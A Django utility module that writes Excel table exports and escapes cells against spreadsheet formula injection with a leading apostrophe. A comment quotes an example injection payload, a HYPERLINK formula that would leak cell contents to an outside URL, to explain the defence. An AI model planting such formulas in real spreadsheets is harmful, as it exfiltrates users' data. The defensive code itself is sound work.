"""Excel (.xlsx) downloads of plain tables."""

from __future__ import annotations

import io
from collections.abc import Iterable, Sequence
from typing import Any
from urllib.parse import quote

from django.http import HttpResponse
from openpyxl import Workbook
from openpyxl.styles import Alignment, Font, PatternFill
from openpyxl.utils import get_column_letter

XLSX_MIME = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

#: A text cell starting with one of these is read as a formula (or as the start of one) by
#: Excel, WPS and LibreOffice: ``=HYPERLINK("http://…?leak="&A1, "点击查看")`` typed into a
#: meter code by an enterprise would run in the office's export (OWASP "CSV injection").
FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r", "\n")


def safe_cell_value(value: Any) -> Any:
    """A value safe to write into a spreadsheet cell.

    Numbers, dates, booleans and ``None`` are returned unchanged (numbers stay numbers).
    A string that a spreadsheet could read as a formula gets a leading apostrophe, the
    spreadsheet convention for "this is text": the user sees the text as entered, nothing
    runs. Every workbook the platform writes passes its cells through this function
    (``table_workbook``, ``append_row`` and the app-specific writers).
    """
    if isinstance(value, str) and value.startswith(FORMULA_LEADS):
        return "'" + value
    return value


def unescape_cell_text(value: Any) -> Any:
    """Undo :func:`safe_cell_value` for a cell read back from an exported workbook.

    ``"'=1+1"`` becomes ``"=1+1"`` again, so exporting, editing and re-importing a workbook
    (the task ledger) does not grow apostrophes; anything else is returned unchanged.
    """
    if isinstance(value, str) and value.startswith("'") and value[1:].startswith(FORMULA_LEADS):
        return value[1:]
    return value


def append_row(ws: Any, row: Iterable[Any]) -> None:
    """``ws.append(row)`` with every cell passed through :func:`safe_cell_value`."""
    ws.append([safe_cell_value(v) for v in row])


def table_workbook(
    title: str, headers: Sequence[str], rows: Iterable[Sequence[Any]], *, note: str = ""
) -> bytes:
    """One sheet: a title line, an optional note line, a bold header, the rows."""
    wb = Workbook()
    ws = wb.active
    ws.title = title[:31]
    append_row(ws, [title])
    ws["A1"].font = Font(bold=True, size=13)
    if note:
        append_row(ws, [note])
        ws.cell(ws.max_row, 1).font = Font(italic=True, color="666666")
    append_row(ws, headers)
    header_row = ws.max_row
    for cell in ws[header_row]:
        cell.font = Font(bold=True)
        cell.fill = PatternFill("solid", fgColor="E2EFE6")
        cell.alignment = Alignment(horizontal="center")
    widths = [max(6, len(str(h)) * 2 + 2) for h in headers]
    for row in rows:
        append_row(ws, row)
        for i, value in enumerate(row):
            if i < len(widths):
                widths[i] = min(80, max(widths[i], len(str(value or "")) + 2))
    for i, width in enumerate(widths, start=1):
        ws.column_dimensions[get_column_letter(i)].width = width
    ws.freeze_panes = ws.cell(header_row + 1, 1)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def xlsx_response(data: bytes, filename: str) -> HttpResponse:
    """An attachment response; the Chinese file name survives every browser."""
    response = HttpResponse(data, content_type=XLSX_MIME)
    response["Content-Disposition"] = (
        f"attachment; filename=\"export.xlsx\"; filename*=UTF-8''{quote(filename)}"
    )
    return response
